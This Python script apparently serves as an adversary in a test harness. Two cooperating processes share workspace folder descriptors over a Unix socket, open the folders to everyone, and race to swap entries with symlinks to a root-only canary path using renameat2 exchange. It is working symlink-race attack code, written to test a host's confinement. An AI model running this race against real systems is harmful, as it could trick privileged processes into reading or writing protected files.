"""Two agents that attack the host: one has the folders, the other a user of its own.

The first opens folders of its workspace again and again, opens them up for everybody and hands
their descriptors over an abstract socket. Both exchange, as fast as they can, what is in them with
links to files and folders that only root may touch, and put links where nothing is.

    colluders.py SOCKET COUNT WORKSPACE CANARY first|second UID [FOLDER…]
"""

from __future__ import annotations

import array
import contextlib
import ctypes
import os
import socket
import sys

EXCHANGE = 2
_libc = ctypes.CDLL(None, use_errno=True)
FOLDERS = ("repo", "repo/.git", "repo/.git/refs", "repo/.git/refs/heads", "repo/.git/objects",
           "repo/.git/info", "repo/a", "repo/a/b", "home", "tmp", "import", "import/refs",
           "import/refs/heads", "import/objects", "import/info", "tmp/deep",
           "tmp/deep/er")  # fmt: skip
NAMES = (".git", "refs", "heads", "objects", "info", "pack", "tags", "a", "b", "new", "index",
         "HEAD", "config", "key", "README.md", "deep", "er", "alternates", "exclude")  # fmt: skip


def hand_over(where: str, count: str, folders: list[str], canary: str) -> None:
    counter = os.open(count, os.O_WRONLY)
    done = 0
    while True:
        fds = []
        for folder in folders:
            with contextlib.suppress(OSError):
                fds.append(os.open(folder, os.O_RDONLY | os.O_DIRECTORY))
                os.fchmod(fds[-1], 0o777)
        if fds:
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as line:
                line.connect(where)
                rights = array.array("i", fds)
                line.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        for fd in fds:
            done += swap_in(fd, canary)
            os.close(fd)
        os.pwrite(counter, str(done).encode(), 0)


def swap(where: str, count: str, canary: str) -> None:
    counter = os.open(count, os.O_WRONLY)
    done = 0
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(where)
        server.listen(1)
        while True:
            line, _ = server.accept()
            fds = array.array("i")
            with line:
                _, rights, _, _ = line.recvmsg(1, socket.CMSG_LEN(64 * fds.itemsize))
            for _, _, payload in rights:
                fds.frombytes(payload)
            for fd in fds:
                done += swap_in(fd, canary)
            for fd in fds:
                os.close(fd)
            os.pwrite(counter, str(done).encode(), 0)


def swap_in(fd: int, canary: str) -> int:
    """Each name is exchanged with a link, back and forth; where nothing is, a link takes the name
    for a moment."""
    done = 0
    there = set(os.listdir(fd))
    for name in NAMES:
        link, decoy = f"{canary}/{name}", f"{name}~"
        try:
            if name not in there:
                os.symlink(link, name, dir_fd=fd)
                os.unlink(name, dir_fd=fd)
                done += 1
                continue
            if decoy not in there:
                os.symlink(link, decoy, dir_fd=fd)
        except PermissionError:
            return done  # the host took this folder
        except OSError:
            continue
        for _ in range(8):
            if _libc.renameat2(fd, decoy.encode(), fd, name.encode(), EXCHANGE) != 0:
                break
            done += 1
    return done


def main() -> None:
    where, count, workspace, canary, role, uid, *chosen = sys.argv[1:]
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(int(uid), int(uid), int(uid))
        os.setresuid(int(uid), int(uid), int(uid))
    if role == "first":
        folders = [f"{workspace}/{name}" for name in chosen or FOLDERS]
        hand_over(f"\0{where}", count, folders, canary)
    else:
        swap(f"\0{where}", count, canary)


if __name__ == "__main__":
    main()
